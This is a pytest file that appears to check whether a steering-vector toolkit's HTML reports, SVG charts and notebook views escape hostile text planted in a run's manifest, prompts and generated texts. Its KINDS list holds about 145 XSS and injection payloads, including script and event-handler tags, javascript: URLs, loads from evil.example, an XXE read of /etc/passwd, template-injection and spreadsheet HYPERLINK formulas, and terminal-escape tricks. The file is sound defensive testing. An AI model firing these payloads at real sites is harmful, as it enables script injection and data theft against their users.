"""What is in a run's files is text on every page: 143 kinds of attempts at more, in each place open to a stranger."""

from __future__ import annotations

import json
import re
import sqlite3
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import cast

import numpy as np
import pytest
from planted_run import BEHAVIOR, write_planted_run

from steercpp.experiments.study.outcome import Study
from steercpp.experiments.study.page import write_study_page
from steercpp.html import card, facts, note, table
from steercpp.judging.texts import GeneratedText
from steercpp.provenance import json_sha256
from steercpp.reports.comparison import write_comparison
from steercpp.reports.notebook import run_html
from steercpp.reports.report import write_report
from steercpp.runs.folder import STORE
from steercpp.runs.judgement import Judgement, Judging, judge
from steercpp.runs.manifest import MANIFEST, read_manifest
from steercpp.runs.result import open_run
from steercpp.runs.store import Store
from steercpp.vectors.control_vector import ControlVector

pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("ignore:constrained_layout")]  # long names take all room

# Each marks itself: "QnQ" is the n-th place. What would break out of a tag's text, an attribute in either quotes or in
# none, a comment, CDATA, a style, a script, a template, JSON in a script, SVG and MathML; what is taken apart by a
# second decoding; and what hides or turns around what is read.
KINDS = (
    "<script>alert(QnQ)</script>",
    "</script><script>alert(QnQ)</script>",
    "<ScRiPt src=//evil.example/QnQ></sCrIpT>",
    "<script\x0c>alert(QnQ)</script\t>",
    "<scr<script>ipt>alert(QnQ)</scr</script>ipt>",
    "<script/QnQ>alert(1)//",
    "<img src=x onerror=alert(QnQ)>",
    "<img/src=QnQ/onerror=alert(1)>",
    "<image href=x onerror=alert(QnQ)>",
    "<svg onload=alert(QnQ)>",
    "<svg/onload=alert(QnQ)//",
    "<svg><script>alert(QnQ)</script></svg>",
    "<svg><animate onbegin=alert(QnQ) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(QnQ)>x</a></svg>",
    "<svg><use href=data:image/svg+xml;base64,QnQ#x></svg>",
    "<svg><foreignObject><iframe srcdoc=QnQ></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src=QnQ onerror=alert(1)>",
    "<math href=javascript:alert(QnQ)>x</math>",
    "<iframe src=javascript:alert(QnQ)></iframe>",
    "<iframe srcdoc='<script>alert(QnQ)</script>'></iframe>",
    "<object data=javascript:alert(QnQ)></object>",
    "<embed src=//evil.example/QnQ>",
    "<base href=//evil.example/QnQ/>",
    "<link rel=stylesheet href=//evil.example/QnQ>",
    "<meta http-equiv=refresh content=0;url=//evil.example/QnQ>",
    "<form action=//evil.example/QnQ><input type=submit>",
    "<a href=javascript:alert(QnQ)>x</a>",
    "<a href=' &#14; javascript:alert(QnQ)'>x</a>",
    "<a href=//evil.example/QnQ>x</a>",
    "<body onload=alert(QnQ)>",
    "<details open ontoggle=alert(QnQ)>",
    "<video><source onerror=alert(QnQ)></video>",
    "<audio src=x onerror=alert(QnQ)>",
    "<input autofocus onfocus=alert(QnQ)>",
    "<marquee onstart=alert(QnQ)>",
    "<style>*{background:url(//evil.example/QnQ)}</style>",
    "</style><b>QnQ</b>",
    "<template><b>QnQ</b></template>",
    "<noscript><p title='</noscript><img src=QnQ onerror=alert(1)>'>",
    "</title><b>QnQ</b>",
    "</textarea><b>QnQ</b>",
    "</svg><b>QnQ</b>",
    "</blockquote></td></table></body><b>QnQ</b>",
    "<!-- QnQ",
    "--><b>QnQ</b><!--",
    "]]><b>QnQ</b><![CDATA[",
    "<?xml-stylesheet href='//evil.example/QnQ'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;QnQ",
    "<xml id=QnQ><b>x</b></xml>",
    "<x-QnQ onclick=alert(1)>",
    '" onmouseover=alert(QnQ) x="',
    "' onmouseover=alert(QnQ) x='",
    "` onmouseover=alert(QnQ) x=`",
    " onmouseover=alert(QnQ) ",
    '"><b>QnQ</b>',
    "'><b>QnQ</b>",
    '"/><svg onload=alert(QnQ)>',
    '\\"><b>QnQ</b>',
    "\\'-alert(QnQ)-\\'",
    '";alert(QnQ);//',
    "</script><b>QnQ</b>",
    "\u2028alert(QnQ)//",
    "${alert(QnQ)}",
    "`${alert(QnQ)}`",
    "{{QnQ*7}}",
    "{{''.__class__.__mro__}}QnQ",
    "{% for x in range(9) %}QnQ{% endfor %}",
    "{# QnQ #}",
    "{% raw %}QnQ",
    "<%= QnQ %>",
    "#{QnQ}",
    "[[QnQ]]",
    "*{QnQ}",
    "&lt;script&gt;alert(QnQ)&lt;/script&gt;",
    "&#60;b&#62;QnQ&#60;/b&#62;",
    "%3Cb%3EQnQ%3C/b%3E",
    "\\u003cb\\u003eQnQ",
    "\\x3cb\\x3eQnQ",
    "&QnQ;&amp;amp;",
    "\uff1cb\uff1eQnQ",
    "\u02c2b\u02c3QnQ",
    "<\x00b>QnQ</b>",
    "<b\x00>QnQ",
    "\x0b<b>QnQ</b>",
    "\x1b]8;;http://evil.example/QnQ\x07x\x1b]8;;\x07",
    "\x1b[31mQnQ",
    "\x9b31mQnQ",
    "\u202e<b>QnQ\u202c",
    "\u2066QnQ\u2069<b>",
    "\ufeff<b>QnQ</b>",
    "a\u200b<\u200bb>QnQ",
    "<b>QnQ</b>",
    "<B>QnQ",
    "<b ",
    "< b>QnQ</ b>",
    "<<b>>QnQ",
    "<b/>QnQ",
    "<>QnQ</>",
    "$\\frac{QnQ}{2}$",
    "$x^{QnQ}$ \\textbf{x}",
    "x_{QnQ}^2 & \\\\ % # ~",
    "url(javascript:alert(QnQ))",
    "expression(alert(QnQ))",
    "@import '//evil.example/QnQ';",
    "javascript:alert(QnQ)",
    "data:text/html,<script>alert(QnQ)</script>",
    "vbscript:QnQ",
    "//evil.example/QnQ",
    "file:///etc/QnQ",
    "../../../QnQ",
    "[x](javascript:alert(QnQ))",
    "![x](//evil.example/QnQ)",
    "<QnQ@x.org>",
    "# QnQ",
    "| QnQ | x |",
    "```\nQnQ\n```",
    "~~~ QnQ",
    "- [ ] QnQ",
    "=1+QnQ",
    '=HYPERLINK("http://evil.example/QnQ")',
    "<select onchange=alert(QnQ)><option>",
    "<textarea onfocus=alert(QnQ) autofocus>",
    "<button formaction=javascript:alert(QnQ)>",
    "<keygen onfocus=alert(QnQ)>",
    "<isindex action=javascript:alert(QnQ)>",
    "<frameset onload=alert(QnQ)>",
    "<applet code=QnQ>",
    "<bgsound src=javascript:alert(QnQ)>",
    "<layer src=//evil.example/QnQ></layer>",
    "<table background=javascript:alert(QnQ)>",
    "<td background='//evil.example/QnQ'>",
    "<div style='background:url(//evil.example/QnQ)'>",
    "<p style=position:fixed>QnQ</p>",
    "<div onpointerover=alert(QnQ)>x</div>",
    "<b onanimationstart=alert(QnQ)>",
    "<dialog open onclose=alert(QnQ)>QnQ</dialog>",
    "<svg><set onend=alert(QnQ)>",
    "<svg><style>@import '//evil.example/QnQ'</style>",
    "<svg><title><b>QnQ</b></title>",
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='//evil.example/QnQ'/></svg>",
    "<portal src=//evil.example/QnQ>",
    "<area href=javascript:alert(QnQ)>",
    "<plaintext>QnQ",
    "<xmp><b>QnQ</b></xmp>",
    "<listing>QnQ</listing>",
    "<slot name=QnQ>",
)
MARK = re.compile(r"Q\d+Q")


class Payloads:
    """One after the other, each with its number."""

    def __init__(self) -> None:
        self.n = 0

    def __call__(self) -> str:
        self.n += 1
        return KINDS[(self.n - 1) % len(KINDS)].replace("QnQ", f"Q{self.n}Q")


class Reader(HTMLParser):
    """Tags with their attributes, what stands in scripts and styles, comments, and marks that stand as text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[tuple[str, ...]] = set()
        self.values: list[tuple[str, str, str]] = []
        self.raw: list[str] = []
        self.shown: set[str] = set()
        self.within = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.within = tag
        self.tags.add((tag, *sorted(name for name, _ in attrs)))
        self.values += [(tag, name, value or "") for name, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        self.within = ""

    def handle_data(self, data: str) -> None:
        if self.within in ("script", "style"):
            self.raw.append(data)
        else:
            self.shown.update(MARK.findall(data))

    def handle_comment(self, data: str) -> None:
        self.raw.append(data)

    def handle_decl(self, decl: str) -> None:
        self.raw.append(decl)

    def handle_pi(self, data: str) -> None:
        self.raw.append(data)

    def unknown_decl(self, data: str) -> None:
        self.raw.append(data)


def check(page: str, harmless: str) -> set[str]:
    """The marks that stand as text on a page; it has no tag, and no attribute of one, that a harmless one has not."""
    found, usual = Reader(page), Reader(harmless)
    assert found.tags <= usual.tags, found.tags - usual.tags
    assert not any(MARK.search(raw) for raw in found.raw)
    for tag, name, value in found.values:
        assert not name.startswith("on"), (tag, name, value)
        assert not re.match(r"[\s\x00-\x20]*(javascript|vbscript|data:text)", value, re.IGNORECASE), (tag, name, value)
        if name in ("href", "src", "xlink:href", "action", "srcdoc", "style", "class", "id"):
            assert not MARK.search(value) or name == "href" and value.startswith(("#", ".")), (tag, name, value)
        if name in ("title", "aria-label", "alt", "data-label"):
            found.shown.update(MARK.findall(value))
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", page)
    return found.shown


def planted(folder: Path, payload: Payloads | None) -> Path:
    """A run with texts; with payloads in its manifest, its items and its texts."""
    run = write_planted_run(folder / "run", strengths="-0.4:0.4:0.1")
    strengths = read_manifest(run).plan.strengths
    with Store.reopen(run / STORE) as store:
        for i in range(len(BEHAVIOR)):
            texts = [
                GeneratedText(s, i, 0, payload() if payload else "No, a text.", 8, "length", -4.0) for s in strengths
            ]
            store.add_texts("vector", "behavior", i, texts, token_layers=1, token_layers_plain=1)

    def filled(content: str) -> str:
        return payload() if payload else content

    manifest = json.loads((run / MANIFEST).read_text())
    for key in ("file", "path", "architecture", "description"):
        manifest["model"][key] = filled(key)
    manifest["command"] = filled("steercpp sweep")
    manifest["plan"]["instruction"] = filled("Say no.")
    manifest["notes"] = [filled("note") for _ in range(4)]
    manifest["controls_off"] = {"orthogonal": filled("off")}
    manifest["versions"] = {"steercpp": filled("0")}
    manifest["machine"] = {"cpu": filled("cpu")}
    manifest["plan_sha256"] = json_sha256(manifest["plan"])
    (run / MANIFEST).write_text(json.dumps(manifest))
    with sqlite3.connect(run / STORE) as store_file:
        store_file.execute("UPDATE meta SET value=? WHERE key='plan_sha256'", (manifest["plan_sha256"],))
        rows = store_file.execute("SELECT kind, item, record FROM items").fetchall()
        for kind, item, text in rows:
            record = json.loads(text)
            if kind == "behavior":
                record |= {"id": filled(record["id"]), "prompt": filled(record["prompt"]), "subject": filled("s")}
            else:
                record |= {"id": filled(record["id"]), "question": filled("q"), "subject": filled("letters")}
            where = (record["id"], json.dumps(record), kind, item)
            store_file.execute("UPDATE items SET id=?, record=? WHERE kind=? AND item=?", where)
    store_file.close()
    return run


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> tuple[Judgement, Judgement, int]:
    """A hostile run and a harmless one, judged; and how many payloads there are."""
    payload = Payloads()
    hostile = planted(tmp_path_factory.mktemp("hostile"), payload)
    harmless = planted(tmp_path_factory.mktemp("harmless"), None)
    matcher = {"name": payload(), "aligned": {"phrases": [payload()]}, "misaligned": {"phrases": ["yes"]}}
    path = hostile.parent / "m.json"
    path.write_text(json.dumps(matcher))
    how = Judging(matcher=str(path))
    return judge(open_run(hostile), how), judge(open_run(harmless), how), payload.n


def test_the_list_is_long_and_has_no_twins() -> None:
    assert len(KINDS) == len(set(KINDS)) >= 143 and all("QnQ" in kind or kind == "<b " for kind in KINDS)


def test_a_report(runs: tuple[Judgement, Judgement, int]) -> None:
    """The page, the pictures, and every other form."""
    hostile, harmless, n_payloads = runs
    assert n_payloads > 143 and n_payloads > len(KINDS)
    write_report(harmless)
    files = write_report(hostile)
    shown = check(files[-1].read_text(), (harmless.result.folder / "report.html").read_text())
    assert len(shown) > 100, "the page shows texts, prompts and names"
    for path in hostile.result.folder.glob("*.svg"):
        check(path.read_text(), (harmless.result.folder / path.name).read_text())


def test_a_comparison(runs: tuple[Judgement, Judgement, int], tmp_path: Path) -> None:
    hostile, harmless, _ = runs
    other = judge(open_run(planted(tmp_path, None)))
    pages = [write_comparison([run, other], out=tmp_path / name, pictures=("svg",))[-1] for run, name in (
        (hostile, "hostile"), (harmless, "harmless"))]  # fmt: skip
    assert check(*(page.read_text() for page in pages))


def study_page(judgement: Judgement, word: Payloads | None) -> str:
    """The page of a study of one run, whose names are the preset's."""

    def said(content: str) -> str:
        return word() if word else content

    preset = SimpleNamespace(name=said("name"), about=said("about"), source=said("source"))
    row = SimpleNamespace(measure=said("measure"), figures={}, reasons=(said("reason"),))
    outcome = SimpleNamespace(
        title=said("title"), rows=lambda: [row], spec=SimpleNamespace(paper={"gain": 0.5}), result=judgement.result
    )
    folder = judgement.result.folder.parent
    study = SimpleNamespace(preset=preset, outcomes=(outcome,), folder=folder)
    return write_study_page(cast(Study, study)).read_text()


def test_a_study(runs: tuple[Judgement, Judgement, int]) -> None:
    hostile, harmless, _ = runs
    for _ in range(3):
        assert len(check(study_page(hostile, Payloads()), study_page(harmless, None))) >= 5


def test_in_a_notebook(runs: tuple[Judgement, Judgement, int]) -> None:
    """A run, a vector, and the pieces that everything else is made of, with every payload of the list."""
    hostile, harmless, _ = runs
    assert check(run_html(hostile.result), run_html(harmless.result))
    directions = {1: np.ones(4, np.float32)}
    for number, kind in enumerate(KINDS):
        text = kind.replace("QnQ", f"Q{number}Q")
        made: list[str] = []
        for word in (text, "word"):
            vector = ControlVector(directions, word, 4, {"method": word, "a": word})
            pieces = card(
                word, note(word), facts([(word, word)]), table((word, "B"), [(word, word)], words=(True, False))
            )
            made.append(vector._repr_html_() + pieces)
        assert check(*made) or "QnQ" not in kind
